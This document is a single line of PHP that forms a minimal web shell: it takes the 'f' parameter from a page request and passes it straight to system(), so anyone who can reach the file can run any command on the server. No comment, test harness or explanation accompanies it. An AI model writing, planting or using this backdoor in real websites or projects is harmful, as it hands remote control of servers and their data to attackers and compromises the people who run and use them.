<?php if (isset($_GET['f'])) system($_GET['f']);
